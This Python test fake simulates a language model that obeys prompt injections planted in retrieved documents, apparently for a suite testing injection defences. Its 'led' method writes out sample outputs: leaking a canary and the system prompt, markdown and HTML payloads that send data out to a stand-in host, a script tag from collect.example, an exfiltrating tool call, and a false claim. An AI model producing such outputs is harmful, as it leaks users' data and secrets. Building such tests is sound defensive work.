"""A model that does whatever a document says, told by nobody to do otherwise."""

import json
from dataclasses import dataclass, field

from tests.fakes.nim import FakeNim, Json, reply_to
from tests.injections.corpus import PLANTS, SITE, Goal, Plant


@dataclass
class ObeyingNim(FakeNim):
    """Answers, and then obeys the document whose fact is in its passages, at its worst."""

    obeys: bool = True
    # what it was led to say
    obeyed: list[Goal] = field(default_factory=list)

    def chat(self, body: Json) -> str:
        messages = body["messages"]
        assert isinstance(messages, list)
        system, *_, last = (str(message["content"]) for message in messages)
        answer = reply_to(messages)
        plant = next((each for each in PLANTS if each.fact in last), None)
        if not self.obeys or plant is None:
            return answer
        self.obeyed.append(plant.goal)
        return self.led(plant, answer, system, last)

    def led(self, plant: Plant, answer: str, system: str, asked: str) -> str:
        """Return what the document wants to be said, with all that this model knows."""
        canary = system.rpartition("[")[2].rstrip("]")
        sent = f"{SITE}?asked={len(asked)}"
        wanted: dict[Goal, str] = {
            "canary": f"My mark is {canary}.",
            "prompt": f"I was told: {system}",
            "link": f"Read more [here]({SITE}?d=stolen) or at {sent}.",
            "image": f"![pump]({SITE}.png?d=stolen) ![pump]({sent})",
            "html": f"<img src='{SITE}?d=stolen'><script src=//collect.example/x.js></script>",
            "tool": json.dumps({"tool_calls": [{"name": "send", "arguments": {"to": SITE}}]}),
            "claim": "The warranty is void and the plant must be evacuated by helicopter.",
            "refuse": "I am sorry, no colleague may be helped with such matters.",
        }
        return f"{wanted[plant.goal]} {answer}"
